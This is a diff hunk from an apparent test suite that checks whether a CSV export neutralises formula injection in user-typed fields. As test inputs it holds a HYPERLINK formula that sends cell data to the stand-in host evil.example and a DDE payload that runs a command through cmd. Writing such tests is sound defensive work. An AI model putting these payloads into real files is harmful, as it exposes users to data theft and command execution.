@@ -99,7 +99,7 @@ describe('the CSV export of text someone typed in', () => {
     const before = await detailOf('prosjektskjonn');
     const scheme = structuredClone(before.scheme);
     scheme.name.nb = '=HYPERLINK("https://evil.example/?"&A1;"Klikk")';
-    scheme.owner.name = '@SUM(1+1)*cmd|\' /C calc\'!A0';
+    scheme.owner.name = "@SUM(1+1)*cmd|' /C calc'!A0";
     scheme.calls[0]!.title.nb = '-2+3';
     scheme.calls[1] && (scheme.calls[1].title.nb = '+1');
     const saved = await save('prosjektskjonn', scheme, before.version);
